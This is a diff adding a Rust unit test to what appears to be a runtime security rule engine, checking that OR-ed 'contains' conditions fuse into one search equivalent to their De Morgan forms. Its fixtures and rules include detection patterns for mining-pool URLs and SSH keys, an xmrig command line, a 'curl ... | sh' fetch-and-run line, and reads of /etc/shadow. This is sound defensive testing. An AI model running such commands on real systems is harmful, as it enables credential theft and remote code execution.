@@ -962,3 +962,94 @@ fn shared_checks_are_judged_once_per_event() {
         assert_eq!(rules_hit(&engine, &bash_open), ["c"]);
     }
 }
+
+#[test]
+fn ored_contains_of_one_field_are_one_search_that_agrees_with_them() {
+    // Each condition with its twin by De Morgan, whose checks stay apart.
+    let pairs = [
+        (
+            "proc.cmdline contains stratum+tcp:// or proc.cmdline contains stratum+ssl:// or proc.name = cat",
+            "not (not proc.cmdline contains stratum+tcp:// and not proc.cmdline contains stratum+ssl:// and not proc.name = cat)",
+        ),
+        (
+            "fd.name contains /.ssh/ or proc.name = cat or fd.name contains id_rsa",
+            "not (not fd.name contains /.ssh/ and not proc.name = cat and not fd.name contains id_rsa)",
+        ),
+        (
+            "fd.name contains zzz or fd.name contains ''",
+            "not (not fd.name contains zzz and not fd.name contains '')",
+        ),
+        (
+            "proc.cmdline contains aab or proc.cmdline contains ab or proc.cmdline contains ß",
+            "not (not proc.cmdline contains aab and not proc.cmdline contains ab and not proc.cmdline contains ß)",
+        ),
+        (
+            "proc.aname contains ba or proc.aname contains ys",
+            "not (not proc.aname contains ba and not proc.aname contains ys)",
+        ),
+        (
+            "tolower(proc.cmdline) contains stratum or tolower(proc.cmdline) contains ABC",
+            "not (not tolower(proc.cmdline) contains stratum and not tolower(proc.cmdline) contains ABC)",
+        ),
+        (
+            "proc.cmdline contains -c or proc.args contains -c or proc.cmdline contains x",
+            "not (not proc.cmdline contains -c and not proc.args contains -c and not proc.cmdline contains x)",
+        ),
+        (
+            "fd.name contains /etc/ or proc.cmdline contains zzz or fd.name contains x",
+            "not (not fd.name contains /etc/ and not proc.cmdline contains zzz and not fd.name contains x)",
+        ),
+        (
+            "not (proc.cmdline contains aab or proc.cmdline contains ß)",
+            "not proc.cmdline contains aab and not proc.cmdline contains ß",
+        ),
+    ];
+    let init = ROOT.process(1, 0, "systemd", "/sbin/init", &["/sbin/init"]);
+    let mut events = vec![cat_shadow()];
+    for args in [
+        &["xmrig", "-o", "stratum+tcp://pool:3333"][..],
+        &["sh", "-c", "curl -s STRATUM+SSL://x | sh"],
+        &["python3", "aab"],
+        &["python3", "xaxab"],
+        &["grüßen", "-c", "x"],
+        &["cat"],
+        &["ssh", "-i", "/home/u/.ssh/id_rsa"],
+        &["python3", "zzz"],
+    ] {
+        let p = ROOT.process(30, 10, args[0], &format!("/usr/bin/{}", args[0]), args);
+        events.push(ROOT.execve(p.clone(), vec![bash(), init.clone()]));
+        for file in [args[args.len() - 1], "/tmp/y"] {
+            events.push(ROOT.openat(p.clone(), vec![bash()], file, flags(0, &["O_RDONLY"]), 3));
+        }
+    }
+    for (fused, apart) in pairs {
+        for en in &events {
+            assert_eq!(
+                eval(fused, en),
+                eval(apart, en),
+                "{fused} on {:?}",
+                en.event
+            );
+        }
+    }
+    // The searches are one check: alone, or beside the other field's check.
+    let matcher = |cond: &str| {
+        let res = load_sources(&[("t.yaml", rule_src(cond))]);
+        res.ruleset.rules[0]
+            .compiled
+            .as_ref()
+            .unwrap()
+            .matcher
+            .clone()
+    };
+    let one = matcher("proc.cmdline contains a or proc.cmdline contains b");
+    assert!(
+        matches!(&one, compile::Node::Check(_)) && format!("{one:?}").contains("ContainsAny"),
+        "{one:?}"
+    );
+    let two = matcher("proc.cmdline contains a or proc.name = cat or proc.cmdline contains b");
+    assert!(
+        matches!(&two, compile::Node::Or(v) if v.len() == 2),
+        "{two:?}"
+    );
+}
